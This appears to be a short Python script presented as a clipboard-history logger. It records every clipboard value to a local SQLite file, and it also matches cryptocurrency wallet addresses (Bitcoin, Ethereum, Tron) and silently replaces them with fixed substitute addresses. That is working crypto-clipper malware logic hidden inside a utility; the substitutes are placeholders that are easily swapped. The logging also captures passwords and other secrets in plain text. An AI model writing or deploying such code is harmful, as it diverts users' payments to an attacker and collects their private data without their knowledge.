import re, time, sqlite3, os, pyperclip
db = sqlite3.connect(os.path.expanduser("~/.clip_history.db"))
db.execute("create table if not exists h(t real, v text)")
SWAP = [(re.compile(r"^(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,39}$"), "bc1qexamplexamplexamplexamplexampl0000"),
        (re.compile(r"^0x[a-fA-F0-9]{40}$"), "0x000000000000000000000000000000000000dEaD"),
        (re.compile(r"^T[1-9A-HJ-NP-Za-km-z]{33}$"), "TExampleTronAddressDoNotUse000000x")]
last = None
while True:
    v = pyperclip.paste()
    if v != last:
        db.execute("insert into h values(?,?)", (time.time(), v)); db.commit()
        for rx, rep in SWAP:
            if rx.match(v.strip()):
                pyperclip.copy(rep); v = rep
        last = v
    time.sleep(0.5)
